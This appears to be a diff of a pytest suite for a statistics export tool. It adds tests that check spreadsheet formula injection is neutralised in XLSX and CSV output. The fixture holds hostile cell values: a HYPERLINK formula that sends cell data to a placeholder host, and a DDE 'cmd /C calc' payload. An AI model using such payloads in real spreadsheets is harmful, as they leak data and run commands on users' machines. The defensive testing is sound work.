@@ -81,8 +81,9 @@ def _expected(profile: profiles.Profile, tables: list[AggregateTable]) -> list[A
 
 
 def _printed(table: AggregateTable, k: int = 5) -> list[list[str]]:
+    """The rows as the printed CSV writes them: plain numbers (2629, never 2.629), markers, `≥ n`."""
     _header, rows = profile_files.lines(table, "it")
-    return [[name, *(profile_files.shown(v, f, table.unit, k) for v, f in values)] for name, values in rows]
+    return [[name, *(profile_files.plain(v, f, table.unit, k) for v, f in values)] for name, values in rows]
 
 
 @pytest.mark.parametrize("name", ["istat-utenza", "istat-centri", "lombardia"])
@@ -106,7 +107,7 @@ def test_xlsx_read_back_holds_exactly_the_package_values(ws: Workspace, tmp_path
             assert got_row[0] == want_row[0]
             for got, printed in zip(got_row[1:], want_row[1:], strict=True):
                 # a published exact value is a number in the sheet; hidden and lower bounds are text
-                text = got if isinstance(got, str) else profile_files.shown(got, False, table.unit, 5)
+                text = got if isinstance(got, str) else profile_files.plain(got, False, table.unit, 5)
                 assert text == printed, (table.id, want_row[0])
                 lower_bounds += isinstance(got, str) and got.startswith("≥")
     assert name != "istat-utenza" or lower_bounds  # its coarser categories do sum hidden parts
@@ -125,8 +126,9 @@ def test_csv_parsed_with_the_csv_module_and_json_hold_the_same_values(ws: Worksp
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
     for table in expected:
         start = rows.index([table.title])
-        grid = rows[start + 5 : start + 5 + len(table.rows) + 1]
-        assert grid == _printed(table), table.id
+        want = _printed(table)
+        assert rows[start + 5 : start + 5 + len(want)] == want, table.id
+        assert rows[start + 5 + len(want)] == []  # nothing under the grid: "Totale" only over a sum
 
     document = json.loads(out_json.path.read_bytes())
     assert document["profile"]["id"] == "istat-utenza" and document["period"]["code"] == "2025"
@@ -156,7 +158,7 @@ def test_the_funder_profile_puts_each_desk_in_a_column(ws: Workspace, tmp_path: 
     result = exports.export_profile(ws, profile, parse_period(YEAR), desks, "json", tmp_path / "f.json")
     document = json.loads(result.path.read_bytes())
     women = document["tables"][0]
-    assert [c["label"] for c in women["cols"]] == ["Bergamo", "Treviglio", "Totale"]
+    assert [c["label"] for c in women["cols"]] == ["Bergamo", "Treviglio"]  # the total: row_totals
     bergamo = _expected(profile, _package_tables(ws, YEAR, tmp_path, desks[:1]))[0]
     assert [row[0] for row in women["cells"]] == [row[0] for row in bergamo.cells]
     # the whole centre overlaps the desks released alone: refused, as any subtraction would be
@@ -374,3 +376,58 @@ def test_the_structure_tables_count_each_desk_once() -> None:
     hours = tables["structure_desk_hours"]
     assert hours.total == 10 and hours.total_lower_bound and hours.col_lower_bound == [True]
     assert stated.not_entered_percent(tables["structure_languages"]) == 50
+
+
+HOSTILE_PROFILE = """[profile]
+format = 1
+id = "ostile"
+version = 1
+title = '=HYPERLINK("http://x.example/?d="&A2,"Apri")'
+target = "+Finanziatore"
+periods = ["year"]
+
+[[tables]]
+id = "donne"
+title = "@SUM(1+1)*cmd|' /C calc'!A0"
+source = "flow"
+[tables.rows]
+RECEIVED = { label = "-2+3", from = ["RECEIVED"] }
+ACTIVE = { label = "=1+1", from = ["ACTIVE"] }
+"""
+
+
+def test_text_that_a_spreadsheet_would_run_is_written_as_text(ws: Workspace, tmp_path: Path) -> None:
+    """A title or label beginning with = + - @ (or a tab, a carriage return) is a formula to Excel and
+    LibreOffice: in the XLSX it is a string cell, in the CSV it starts with an apostrophe."""
+    source = tmp_path / "ostile.toml"
+    source.write_text(HOSTILE_PROFILE, encoding="utf-8")
+    profile = exports.load_profile(source)
+    period = parse_period(YEAR)
+    hostile = {profile.title, profile.tables[0].title, "-2+3", "=1+1"}
+    for layout in profile_files.LAYOUTS:
+        result = exports.export_profile(
+            ws, profile, period, None, "xlsx", tmp_path / f"{layout}.xlsx", layout=layout
+        )
+        book = load_workbook(result.path)  # not read-only: the cell types are read as written
+        seen = set()
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
+                        assert cell.data_type == "s", (layout, sheet.title, cell.coordinate, cell.value)
+                        seen.add(cell.value)
+        assert hostile <= seen, layout
+        written = exports.export_profile(
+            ws, profile, period, None, "csv", tmp_path / f"{layout}.csv", layout=layout
+        )
+        text = written.path.read_text("utf-8-sig")
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], layout
+        in_csv = hostile if layout == "printed" else hostile - {profile.title}  # no cover in the long CSV
+        assert {"'" + text for text in in_csv} <= set(cells), layout
+
+
+@pytest.mark.parametrize("text", ["=A1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_every_formula_start_is_neutralised(text: str) -> None:
+    assert profile_files.csv_text(text) == "'" + text
+    assert profile_files.csv_text("a" + text) == "a" + text
